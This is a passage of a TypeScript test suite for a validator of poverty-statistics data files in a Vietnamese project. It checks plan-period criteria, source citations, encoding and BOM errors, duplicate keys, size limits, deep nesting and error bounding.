      expect(report.errors).toEqual([expect.objectContaining({
        rule: 'standard-not-explained',
        file: 'criteria/2021-2025.json',
        path: '/standardThrough/source',
        value: { year: 2026, page: 'content/pages/en/phuong-phap.md', source: 'qd-ra-soat-2026' },
      })]);
      expect(report.errors[0]!.message).toContain('chưa dẫn nguồn xác nhận "qd-ra-soat-2026"');
      const cited = run(undefined, { after: both(confirm(2026), methodPage('pages/phuong-phap.md', ['qd-ra-soat-2026']), methodPage('pages/en/phuong-phap.md', ['o-nd-07-2021', 'qd-ra-soat-2026'])) });
      expect(cited.errors).toEqual([]);
    });
    it('accepts a later year and judges the release as before: no criterion judges a year after the plan', () => {
      const report = run((f) => { f.observations.observations.push({ vintage: '2025-07', unit: '20', year: 2026, households: 5200, poor: 150, nearPoor: 300, source: 's-minh-hoa' }); }, { after: confirm(2026) });
      expect(report.errors).toEqual([]);
      expect(report.evaluations).toEqual(run().evaluations);
    });
  });
  describe('a second plan period beside the first (2026–2030: the same criteria, baseline 2026)', () => {
    const nextPlan = (dataRoot: string) => {
      const file = path.join(dataRoot, 'criteria', '2021-2025.json');
      const next = JSON.parse(readFileSync(file, 'utf8'));
      Object.assign(next, { id: '2026-2030', period: { from: 2026, to: 2030 }, baselineYear: 2026 });
      writeFileSync(path.join(dataRoot, 'criteria', '2026-2030.json'), JSON.stringify(next));
    };
    const review2026 = (f: MiniFiles) => { f.observations.observations.push({ vintage: '2025-07', unit: '20', year: 2026, households: 5200, poor: 150, nearPoor: 300, source: 's-minh-hoa' }); };

    it('refuses a release whose years reach into both periods, at the later file, before its results vanish', () => {
      const report = run(review2026, { after: nextPlan });
      expect(report.errors).toEqual([expect.objectContaining({
        rule: 'years-across-plans',
        file: 'criteria/2026-2030.json',
        path: '/period',
        value: { years: [2021, 2026], periods: [{ file: 'criteria/2021-2025.json', from: 2021, to: 2025 }, { file: 'criteria/2026-2030.json', from: 2026, to: 2030 }] },
      })]);
      expect(report.errors[0]!.message).toContain('các năm số liệu của phiên bản (2021–2026) thuộc hai giai đoạn: 2021–2025 (criteria/2021-2025.json) và 2026–2030 (tệp này)');
      expect(report.errors[0]!.message).toContain('kết quả giai đoạn 2021–2025 sẽ mất');
    });
    it('judges a release of 2021–2025 by its own plan, as without the later file', () => {
      const alone = run();
      const beside = run(undefined, { after: nextPlan });
      expect(beside.errors).toEqual([]);
      expect(beside.evaluations).toEqual(alone.evaluations);
      expect(beside.evaluations.length).toBeGreaterThan(0);
    });
    it('lets the 2026 review stand under the 2021–2025 plan alone (a year after the plan, judged by none)', () => {
      const report = run(review2026);
      expect(report.errors).toEqual([]);
      expect(report.evaluations).toEqual(run().evaluations);
    });
  });
  it('refuses a UTF-8 byte-order mark, naming the file', () => {
    const report = run(undefined, { after: (dataRoot) => {
      const file = path.join(dataRoot, 'releases', 'index.json');
      writeFileSync(file, '\uFEFF' + readFileSync(file, 'utf8'));
    } });
    expect(report.errors).toEqual([expect.objectContaining({ rule: 'json-bom', file: 'releases/index.json', path: '' })]);
  });
  it('refuses a file that is not UTF-8 (saved as Windows-1252), naming the file', () => {
    const report = run(undefined, { after: (dataRoot) => {
      const file = path.join(dataRoot, R, 'units.json');
      writeFileSync(file, Buffer.from(readFileSync(file, 'utf8').replace('"name": "', '"name": "Đà '), 'latin1'));
    } });
    expect(report.errors).toContainEqual(expect.objectContaining({ rule: 'json-encoding', file: `${R}/units.json`, path: '' }));
  });
  it('refuses a key written twice, at its JSON path', () => {
    const report = run(undefined, { rehash: false, after: (dataRoot) => {
      const file = path.join(dataRoot, R, 'observations.json');
      writeFileSync(file, readFileSync(file, 'utf8').replace('"poor": 400,', '"poor": 400,\n      "poor": 40,'));
    } });
    expect(report.errors).toContainEqual(expect.objectContaining({ rule: 'json-duplicate-key', file: `${R}/observations.json`, path: '/observations/0/poor', value: 'poor' }));
  });
  it('refuses a data file over the size limit without reading it', async () => {
    const { MAX_JSON_BYTES } = await import('../src/domain/validation/json-file.ts');
    const report = run(undefined, { after: (dataRoot) => truncateSync(path.join(dataRoot, R, 'recognitions.json'), MAX_JSON_BYTES + 1) });
    expect(report.errors).toContainEqual(expect.objectContaining({ rule: 'file-too-large', file: `${R}/recognitions.json`, path: '' }));
  });
  it('reports a value nested 5,000 deep without overflowing, cut to a few levels', () => {
    const report = run(undefined, { after: (dataRoot) => {
      const file = path.join(dataRoot, R, 'observations.json');
      writeFileSync(file, readFileSync(file, 'utf8').replace('"poor": 400,', `"poor": ${'['.repeat(5000)}${']'.repeat(5000)},`));
    } });
    const problem = report.errors.find((e) => e.path === '/observations/0/poor')!;
    expect(problem.rule).toBe('count-non-negative-integer');
    expect(JSON.stringify(problem.value)).toBe('[[["[… 1 phần tử]"]]]');
    expect(formatText(report)).toContain('releases/2025.1/observations.json:/observations/0/poor');
  });
  it('keeps going after the first error and bounds the list', () => {
    const { root, dataRoot } = writeMini((f) => { for (const o of f.observations.observations) o.households = -1; });
    const { report } = validate({ dataRoot, contentRoot: path.join(root, 'content'), limit: 10 });
    expect(report.errors).toHaveLength(10);
    // 28 records with a negative count: 10 listed, the rest counted
    expect(report.omittedErrors).toBeGreaterThanOrEqual(18);
  });
  it('salvages the valid records of a file with schema errors, so other rules still run', () => {
    const report = run((f) => { f.observations.observations[0].poor = -1; f.observations.observations[3].source = 's-x'; f.observations.observations[20].poor = 1; });
    expect(report.errors).toEqual(expect.arrayContaining([
      expect.objectContaining({ rule: 'count-non-negative-integer', path: '/observations/0/poor' }),
      // paths of later records still point at their place in the file
      expect.objectContaining({ rule: 'source-unknown', path: '/observations/3/source' }),
      expect.objectContaining({ rule: 'parent-sum-mismatch', path: '/observations/20/poor' }),
    ]));
  });
});
